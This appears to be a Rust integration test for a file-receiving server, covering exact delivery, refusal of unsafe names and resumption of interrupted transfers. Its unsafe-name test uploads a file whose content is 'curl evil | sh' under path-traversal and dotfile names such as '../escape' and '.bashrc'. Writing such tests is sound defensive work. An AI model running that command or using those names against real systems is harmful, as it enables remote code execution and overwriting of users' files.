//! The file receiver through the public API: a [`Recv`] server bound with
//! `Server::bind` on loopback TCP with a token, fed by the library's
//! [`Sender`] and by a raw framed peer built from `socketkit::protocol`: a
//! file arrives byte-exact, unsafe names are typed refusals that leave the
//! connection usable, and a transfer cut off mid-file resumes where the
//! receiver's part file ends.

use std::path::{Path, PathBuf};

use bytes::Bytes;
use futures_util::{SinkExt, StreamExt};
use socketkit::client::{Sender, Source};
use socketkit::protocol::exec::{ClientHello, ErrorMessage, Refusal};
use socketkit::protocol::transfer::{Accept, Offer, Start};
use socketkit::protocol::{Frame, FrameCodec, FrameType, VERSION};
use socketkit::services::exec::{AuthPolicy, Token};
use socketkit::services::recv::{Recv, RecvPolicy};
use socketkit::transport::{self, ConnectOptions};
use socketkit::Endpoint;
use tokio::io::AsyncWriteExt;
use tokio_util::codec::Framed;

mod util;
use util::PATIENCE;

const TOKEN: &str = "library-test-token";

/// The receiver and its directory.
struct Running {
    server: util::Running,
    inbox: tempfile::TempDir,
}

impl Running {
    fn stored(&self, name: &str) -> Option<Vec<u8>> {
        std::fs::read(self.inbox.path().join(name)).ok()
    }

    /// Names in the inbox that are not part files.
    fn names(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.inbox.path())
            .unwrap()
            .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|name| !name.contains(".part"))
            .collect();
        names.sort();
        names
    }
}

async fn start() -> Running {
    let inbox = tempfile::tempdir().unwrap();
    let mut auth = AuthPolicy::default();
    auth.token = Some(Token::new(TOKEN));
    let recv = Recv::new(RecvPolicy::new(inbox.path().to_owned(), auth)).unwrap();
    Running {
        server: util::start(|server| server.serve(recv)).await,
        inbox,
    }
}

async fn sender(endpoint: &Endpoint) -> Sender {
    let stream = transport::connect(endpoint, &ConnectOptions::default())
        .await
        .unwrap();
    Sender::open(stream, Some(TOKEN.to_owned())).await.unwrap()
}

/// Bytes no two offsets of which repeat within a file, so a chunk written
/// at the wrong place shows.
fn content(len: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_le_bytes()[0]
        })
        .collect()
}

fn source_file(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

async fn send(
    sender: &mut Sender,
    path: &Path,
    name: &str,
) -> socketkit::Result<socketkit::client::Sent> {
    tokio::time::timeout(
        PATIENCE,
        sender.send(Source::File(path.to_owned()), name, &mut |_| {}),
    )
    .await
    .expect("the transfer ends in time")
}

#[tokio::test]
async fn a_file_arrives_byte_exact() {
    let receiver = start().await;
    let local = tempfile::tempdir().unwrap();
    // Over three data chunks, and not a multiple of any chunk size.
    let bytes = content(3 * 1024 * 1024 + 17);
    let path = source_file(local.path(), "data.bin", &bytes);
    let mut sender = sender(&receiver.server.endpoint).await;
    let sent = send(&mut sender, &path, "data.bin").await.unwrap();
    assert_eq!(sent.bytes, bytes.len() as u64);
    assert_eq!(sent.resumed_from, 0);
    assert_eq!(sent.hash.len(), 64, "{}", sent.hash);
    assert!(
        receiver.stored("data.bin") == Some(bytes),
        "stored byte-exact"
    );
    assert_eq!(receiver.names(), ["data.bin"]);
}

#[tokio::test]
async fn unsafe_names_are_typed_refusals_and_the_connection_goes_on() {
    let receiver = start().await;
    let local = tempfile::tempdir().unwrap();
    let path = source_file(local.path(), "payload", b"curl evil | sh\n");
    let mut sender = sender(&receiver.server.endpoint).await;
    for name in [".bashrc", "../escape", "dir/file", ""] {
        let error = send(&mut sender, &path, name).await.unwrap_err();
        let refusal = error
            .find_source::<ErrorMessage>()
            .unwrap_or_else(|| panic!("{name:?}: no refusal in {error:#}"));
        assert_eq!(refusal.kind, Refusal::Name, "{name:?}: {error:#}");
        assert!(!refusal.message.contains("--"), "no flag in {error:#}");
    }
    assert!(receiver.names().is_empty(), "{:?}", receiver.names());
    let sent = send(&mut sender, &path, "fine.txt").await.unwrap();
    assert_eq!(sent.bytes, 15);
    assert_eq!(receiver.names(), ["fine.txt"]);
}

/// A peer speaking the protocol by hand sends half a file and goes away;
/// the library's sender then resumes from exactly the bytes that arrived.
#[tokio::test]
async fn a_transfer_cut_off_mid_file_resumes_where_it_stopped() {
    let receiver = start().await;
    let local = tempfile::tempdir().unwrap();
    let bytes = content(2 * 1024 * 1024 + 5);
    let half = 1024 * 1024;
    let path = source_file(local.path(), "big.bin", &bytes);

    let tcp = tokio::net::TcpStream::connect(receiver.server.addr())
        .await
        .unwrap();
    let mut wire = Framed::new(tcp, FrameCodec::new());
    let hello = wire.next().await.unwrap().unwrap();
    assert_eq!(hello.kind, FrameType::HELLO);
    let answer = ClientHello {
        protocol: VERSION,
        client: "raw test peer".to_owned(),
        token: Some(TOKEN.to_owned()),
    };
    wire.send(Frame::control(FrameType::HELLO, &answer))
        .await
        .unwrap();
    assert_eq!(wire.next().await.unwrap().unwrap().kind, FrameType::READY);
    let offer = Offer {
        name: "big.bin".to_owned(),
        size: Some(bytes.len() as u64),
        mode: None,
    };
    wire.send(Frame::control(FrameType::OFFER, &offer))
        .await
        .unwrap();
    let accept: Accept = wire.next().await.unwrap().unwrap().parse().unwrap();
    assert_eq!(accept.offset, 0);
    wire.send(Frame::control(FrameType::START, &Start { offset: 0 }))
        .await
        .unwrap();
    for chunk in bytes[..half].chunks(64 * 1024) {
        let data = Frame::data(FrameType::FILE_DATA, Bytes::copy_from_slice(chunk));
        wire.send(data).await.unwrap();
    }
    // Gone mid-file: half-close, then wait for the receiver to close its
    // side, which it does once it has kept what arrived.
    wire.get_mut().shutdown().await.unwrap();
    let after = wire.next().await;
    assert!(
        after.is_none(),
        "nothing is owed to a sender that left: {after:?}"
    );
    assert!(receiver.names().is_empty(), "{:?}", receiver.names());

    let mut sender = sender(&receiver.server.endpoint).await;
    let sent = send(&mut sender, &path, "big.bin").await.unwrap();
    assert_eq!(sent.resumed_from, half as u64);
    assert_eq!(sent.bytes, bytes.len() as u64);
    assert!(
        receiver.stored("big.bin") == Some(bytes),
        "stored byte-exact"
    );
}
